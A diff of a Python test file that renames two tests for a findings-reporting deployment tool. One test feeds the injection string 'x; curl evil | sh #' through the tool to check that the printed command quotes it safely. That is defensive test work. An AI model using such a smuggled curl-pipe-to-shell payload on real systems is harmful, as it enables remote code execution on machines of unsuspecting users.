@@ -31,7 +31,7 @@ def by_id(findings: list[Finding]) -> dict[str, Finding]:
     return {one.id: one for one in findings}
 
 
-def test_nothing_wants_attention_when_all_is_well() -> None:
+def test_nothing_needs_attention_when_everything_is_in_sync() -> None:
     assert findings_of(found_in([record()])) == []
 
 
@@ -95,6 +95,6 @@ def test_what_is_not_known_is_not_claimed() -> None:
     assert "does not show which" in found.explanation
 
 
-def test_a_command_to_copy_runs_nothing_that_a_name_says() -> None:
+def test_a_command_to_copy_runs_nothing_from_a_name() -> None:
     (found,) = findings_of(found_in(refusals("x; curl evil | sh #")))
     assert found.command == "deployer explain 300000000001 'x; curl evil | sh #'"
